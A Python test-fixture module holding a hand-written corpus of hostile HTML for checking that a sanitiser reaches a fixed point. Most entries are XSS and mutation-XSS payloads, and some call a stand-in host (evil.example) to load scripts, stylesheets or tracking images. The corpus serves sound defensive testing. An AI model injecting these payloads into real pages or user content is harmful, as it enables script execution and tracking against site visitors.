"""A held-out corpus for the sanitiser's fixed point: written by hand, never used to tune the generators.

``hostile_markup`` generates inputs from tokens; these are whole documents of the kinds that broke
sanitisers elsewhere (mutation XSS, nested quotes, entities in attributes, CDATA, comments,
``<pre>`` variants, SVG/MathML namespaces, ``&`` in URLs), plus every combination of quote and
entity in an attribute value. ``test_sanitize_fixed_point`` asserts that each one is a fixed
point after one pass and that its output meets the policy.
"""

from __future__ import annotations

import itertools

MUTATION_XSS = (
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
    '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
    '<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>',
    '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src onerror=alert(1)>"></title>',
    "<template><style></template><img src=x onerror=alert(1)></style>",
    "<select><template><style><!--</style><a rel=--></template><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><p>inside</p></foreignObject><p>after</p></svg>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "<math><mi><table><mi><style><img src=x onerror=alert(1)></style></mi></table></mi></math>",
    "<svg><desc><svg><p><style><img src=x onerror=alert(1)>",
    "<table><svg><tr><td><style><img src=x onerror=alert(1)>",
    "<a><table><a><tr><td>x</td></tr></a></table></a>",
    "<p><table><p>nested</p></table></p>",
    "<b><p>misnested</b>text</p>",
    "<ul><li><ul><li>a</ul></li>b</ul>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javas\x00cript:alert(1)">x</a>',
    '<a href="%6A%61%76%61script:alert(1)">x</a>',
    "<plaintext><img src=x onerror=alert(1)>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>',
    '<div style="width:e&#x78;pression(alert(1))">x</div>',
    '<div style="color:red;background:u&#114;l(https://e/t)">x</div>',
)

NESTED_QUOTES = (
    "<p title=\"she said 'no'\">x</p>",
    "<p title='he said \"yes\"'>x</p>",
    '<p title="both \' and &quot;">x</p>',
    "<p title='both &#39; and \"'>x</p>",
    "<p title=`back`>x</p>",
    '<p title="&quot;&quot;&quot;">x</p>',
    "<p title=\"'\">x</p><p title='\"'>y</p>",
    '<p title="a"b">x</p>',
    "<p title='a'b'>x</p>",
    "<p title=a\"b'c>x</p>",
    '<p title="">empty</p>',
    "<span style=\"font-family: 'Times New Roman', &quot;Arial&quot;\">x</span>",
    "<span style='font-family: \"it&#39;s\"'>x</span>",
    '<span style="font-family: &quot;A&amp;B&quot;">x</span>',
    '<span style="color: red&amp;blue">x</span>',
    '<span style="font-family: &quot;&lt;/style&gt;&quot;">x</span>',
)

ENTITIES_IN_ATTRIBUTES = (
    '<a href="https://ok/?a=1&amp;b=&quot;x&quot;">the bug report</a>',
    '<a href="https://ok/?a=1&b=2&copy=3">legacy entity without ;</a>',
    '<a href="https://ok/?a=1&amp;amp;b=2">double-escaped already</a>',
    '<a href="https://ok/?q=&quot;&#39;&lt;&gt;">all of them</a>',
    '<a href="https://ok/?x=&notin;&not;&noti">not, notin</a>',
    '<a href="https://ok/#&#x27;frag&#x27;">frag</a>',
    '<a href="https://ok/?a=&#0;&#xD800;&#1114112;">bad numeric</a>',
    '<a title="&ampamp;&amp&amp;;&;&#;&#x;">odd ampersands</a>',
    "<a href='https://ok/?a=\"1\"&amp;b=2'>quoted in single</a>",
    '<img src="https://ok/i.png?w=1&amp;h=2&quot;" alt="A &amp; B &quot;C&quot;">',
    '<img alt="&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<p title="&#x22;&#34;&quot">x</p>',
    '<p title="&Amp;&AMP;&QUOT;">x</p>',
)

AMPERSANDS_IN_URLS = (
    '<a href="https://clinic.example/portal?patient=1&appointment=2">portal</a>',
    '<a href="https://clinic.example/?a=1&amp;b=2&amp;c=3">three</a>',
    '<a href="mailto:desk@clinic.example?subject=A&amp;body=B%26C">mail</a>',
    '<a href="https://e.example/?q=a&lt;b&gt;c">lt gt</a>',
    "<a href=\"https://e.example/?q=&quot;quoted&quot;&amp;r='single'\">both</a>",
    "<a href=https://e.example/?a=1&b=2>unquoted</a>",
    '<a href="https://e.example/?&&&">runs</a>',
    '<a href="https://e.example/?a=%26&amp;b=%22">percent</a>',
)

CDATA_AND_COMMENTS = (
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- a --!><img src=x onerror=alert(1)>-->",
    "<!-- -- --><p>after</p>",
    "<!--[if IE]><img src=x onerror=alert(1)><![endif]-->",
    "<? xml processing ?><p>x</p>",
    "<!DOCTYPE html><p>doctype</p>",
    "<p>a<!--b-->c</p>",
    "<pre><!--x-->\nafter comment</pre>",
    '<p title="<!--">x</p><p>-->y</p>',
)

PRE_VARIANTS = (
    "<pre>\n\nhi</pre>",
    "<pre>\nhi</pre>",
    "<pre>\n\n\n\n\nmany</pre>",
    "<pre>\r\n\r\nwindows</pre>",
    "<pre>\r\rold mac</pre>",
    "<pre>&#10;&#10;entity newlines</pre>",
    "<pre>&#13;\ncr entity</pre>",
    "<pre><b>\nbold first</b></pre>",
    "<pre><x>\nunknown first</x></pre>",
    "<pre><script>x</script>\nafter script</pre>",
    "<pre><!-- c -->\n\nafter comment</pre>",
    "<pre></pre>\n\nafter empty pre",
    "<pre>\n</pre>",
    "<pre>\n\n</pre>",
    "<pre><pre>\n\ninner</pre></pre>",
    "<PRE>\n\nupper</PRE>",
    "<listing>\n\nlisting</listing>",
    "<textarea>\n\ntextarea</textarea>",
    "<pre>\tx\n  y\n</pre>",
    "<p><pre>\n\nin p</pre></p>",
    "<table><tr><td><pre>\n\nin cell</pre></td></tr></table>",
    '<pre style="white-space: pre">\n\nstyled</pre>',
    "<pre>a<br>\nb</pre>",
    "<svg><pre>\n\nbreaks out of svg</pre></svg>",
    "<code><pre>\n\ninside code</pre></code>",
)

NAMESPACES = (
    '<svg><a href="javascript:alert(1)">x</a></svg>',
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)">x</a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<math href="javascript:alert(1)">click</math>',
    "<svg><title><p>title in svg</p></title></svg>",
    "<svg><font color=red>font breaks out</font></svg>",
    "<math><mtext><p>html in mtext</p></mtext></math>",
    "<svg><b>b breaks out</b></svg>",
    "<svg><![CDATA[x]]><p>after</p></svg>",
    '<p xmlns="http://www.w3.org/2000/svg">xmlns attr</p>',
    '<html:p xmlns:html="http://www.w3.org/1999/xhtml">prefixed</html:p>',
)

TEXT_AND_ENTITIES = (
    "a & b &amp; c &amp;amp; d",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&notin; &not &noti; &#x26; &#38;",
    "5 < 6 > 4",
    "<p>&nbsp;&#160;\xa0</p>",
    "\ufeffBOM at start",
    "\u202e reversed \u202c",
    "tab\there",
)


# Public XSS and mutation-XSS collections (OWASP filter-evasion cheat sheet, PortSwigger's XSS cheat
# sheet, the Cure53 HTML5 security cheatsheet, DOMPurify's and ammonia's mXSS reports), written out by
# hand: none of these may leave anything that runs or loads, and each must be a fixed point.
MXSS_COLLECTIONS = (
    # namespace confusion: SVG/MathML integration points, foreign content breaking out and back in
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<math><mi><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style></mtext></svg></mglyph></mi></math>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=alert(1)>"></style></h1>',
    "<svg><foreignObject><math><mtext><style><img src=x onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><svg><style><img src=x onerror=alert(1)></style></svg>'
    "</annotation-xml></math>",
    '<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=alert(1)></annotation-xml></math>',
    "<svg><a><foreignObject><a><table><a></table><style><!--</style></svg><img src=x onerror=alert(1)>-->",
    "<svg><p><textarea><img src=x onerror=alert(1)></textarea></p></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
    "<svg><image href=javascript:alert(1)></image></svg>",
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKScvPg==#x"></use></svg>',
    "<math><a xlink:href=javascript:alert(1)>click</a></math>",
    "<math><maction actiontype=toggle xlink:href=javascript:alert(1)><mtext>x</mtext></maction></math>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    # noscript, template, raw text and RCDATA confusion
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    '<noscript><a title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template><template><img src=x onerror=alert(1)></template>",
    "<template><template><style></template></template><img src=x onerror=alert(1)></style>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<style></style><img src=x onerror=alert(1)>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<iframe></iframe><img src=x onerror=alert(1)>",
    "<noembed></noembed><img src=x onerror=alert(1)>",
    "<script>alert(1)</script >",
    "<script>alert(1)</script\t\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/src=data:,alert(1)></script>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<select><iframe><img src=x onerror=alert(1)>",
    "<table><style><img src=x onerror=alert(1)></style></table>",
    "<table><td><style><img src=x onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<body onload=alert(1)>",
    "<html><body><p>body in body</p></body></html><body onpageshow=alert(1)>",
    # comments and CDATA
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!--<!--><img src=x onerror=alert(1)>-->",
    "<!----><img src=x onerror=alert(1)>--!>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<?x ><img src=x onerror=alert(1)>?>",
    "</x <img src=x onerror=alert(1)>>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><![CDATA[><img src=x onerror=alert(1)>]]></math>",
    "<p><![CDATA[</p><img src=x onerror=alert(1)>]]>",
    "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>",
    # backticks, odd quoting and attribute-name tricks
    "<img src=`x`onerror=alert(1)>",
    "<img src=x` `onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src='x'onerror='alert(1)'>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;(1)>",
    '<p title="a" onmouseover="alert(1)" title="b">x</p>',
    "<a href=https://ok/ onclick=alert(1)>x</a>",
    "<a\x0chref=https://ok/\x0conclick=alert(1)>x</a>",
    '<div style="x:expression(alert(1))" title=`x`>y</div>',
    # javascript:, vbscript:, data: behind entities, controls and whitespace
    '<a href="java&#x09;script:alert(1)">tab entity</a>',
    '<a href="java&#9;script:alert(1)">tab decimal</a>',
    '<a href="java&Tab;script:alert(1)">named tab</a>',
    '<a href="java&NewLine;script:alert(1)">named newline</a>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">all hex</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">decimal without ;</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    '&#0000058alert(1)">padded</a>',
    '<a href="jav&#x0D;ascript:alert(1)">cr</a>',
    '<a href="\x01javascript:alert(1)">leading control</a>',
    '<a href="&#x20;javascript:alert(1)">leading space entity</a>',
    '<a href="JaVaScRiPt:alert(1)">case</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="VBScript&#58;msgbox(1)">vbscript entity</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href=" data:text/html,<script>alert(1)</script>">data with space</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="javascript://%0aalert(1)">comment then newline</a>',
    '<a href="https://ok/" href="javascript:alert(1)">duplicate</a>',
    '<a href="javascript:alert(1)" href="https://ok/">duplicate, bad first</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)">percent</a>',
    '<a href="https:javascript:alert(1)">scheme then scheme</a>',
    '<a href="mailto:x@y.example?body=</a><script>alert(1)</script>">mailto with markup</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="javascript:alert(1)//"><a href="/x">x</a>',
    '<link rel=stylesheet href="https://evil.example/s.css">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<isindex action="javascript:alert(1)" type=image>',
    "<input type=image src=x onerror=alert(1)>",
    '<video poster="javascript:alert(1)"></video><audio src=x onerror=alert(1)>',
    '<video><source onerror="alert(1)"></video>',
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    # srcset and other loaders
    '<img srcset="javascript:alert(1) 1x, https://ok/a.png 2x">',
    '<img src="https://ok/a.png" srcset="https://evil.example/t.png 1x">',
    '<picture><source srcset="https://evil.example/t.png"><img src="https://ok/a.png"></picture>',
    '<img src="https://ok/a.png" ping="https://evil.example/p">',
    '<a href="https://ok/" ping="https://evil.example/p">x</a>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    # style: url(), expression(), escapes, imports, behaviours
    '<p style="background-image: url(javascript:alert(1))">x</p>',
    '<p style="background: url(&quot;https://evil.example/t.png&quot;)">x</p>',
    "<p style=\"background:url('data:image/svg+xml,<svg onload=alert(1)>')\">x</p>",
    '<p style="color: red; background: u\\rl(https://evil.example/t)">x</p>',
    '<p style="color: red; background: \\75\\72\\6c(https://evil.example/t)">x</p>',
    '<p style="width: expr/**/ession(alert(1))">x</p>',
    '<p style="width: expression\\28 alert(1)\\29">x</p>',
    '<p style="x: expression(alert(1)); color: red">x</p>',
    '<p style="behavior: url(#default#time2)">x</p>',
    '<p style="-moz-binding: url(https://evil.example/x.xml#x)">x</p>',
    '<p style="color: red; @import url(https://evil.example/s.css)">x</p>',
    '<p style="color: red;}</style><script>alert(1)</script>">x</p>',
    '<p style="list-style-image: url(https://evil.example/t.png)">x</p>',
    '<p style="border-image: url(https://evil.example/t.png) 30">x</p>',
    '<p style="color: image-set(&quot;https://evil.example/t.png&quot; 1x)">x</p>',
    '<p style="color: var(--x, url(https://evil.example/t))">x</p>',
    '<p style="font-family: &quot;x&quot;; content: url(https://evil.example/t)">x</p>',
    '<p style="color: rgb(1, 2, url(https://evil.example/t))">x</p>',
    '<p style="width: [1px]; color: red">x</p>',
    '<p style="COLOR: RED; FONT-FAMILY: Arial">x</p>',
    # parser-state and misnesting tricks
    "<a href=https://ok/><a href=javascript:alert(1)>nested a</a></a>",
    "<p><svg><p>x</p></svg><img src=x onerror=alert(1)></p>",
    "<table><tr><td>a<table><svg><td><img src=x onerror=alert(1)>",
    "<form><form><img src=x onerror=alert(1)></form>",
    "<ul><li><svg><li>breaks</li></svg><img src=x onerror=alert(1)>",
    '<div id="x"><img src=x onerror=alert(1) id="x"></div>',
    "<image src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<IMG SRC="javascript:alert(1)"><IMG SRC=javascript:alert(&quot;XSS&quot;)>',
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/x.js?< B >",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<BODY BACKGROUND="javascript:alert(1)">',
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\\0029\">x</DIV>",
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<a href="&#1;javascript:alert(1)">x</a>',
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
)


def _attribute_combinations() -> tuple[str, ...]:
    """Every pairing of a quote style with values mixing both quotes, ``&`` and entities."""
    pieces = ("'", '"', "&amp;", "&", "&quot;", "&#39;", "&lt;", "x")
    values = {"".join(combo) for combo in itertools.product(pieces, repeat=2)} | {"".join(pieces)}
    out = []
    for value in sorted(values):
        for quote in ('"', "'"):
            if quote in value:
                continue  # would end the value early: covered by NESTED_QUOTES
            out.append(f"<a href={quote}https://ok/?v={value}{quote} title={quote}{value}{quote}>v</a>")
    return tuple(out)


CORPUS: tuple[str, ...] = (
    MUTATION_XSS + MXSS_COLLECTIONS + NESTED_QUOTES + ENTITIES_IN_ATTRIBUTES + AMPERSANDS_IN_URLS + CDATA_AND_COMMENTS
    + PRE_VARIANTS + NAMESPACES + TEXT_AND_ENTITIES + _attribute_combinations()
)  # fmt: skip
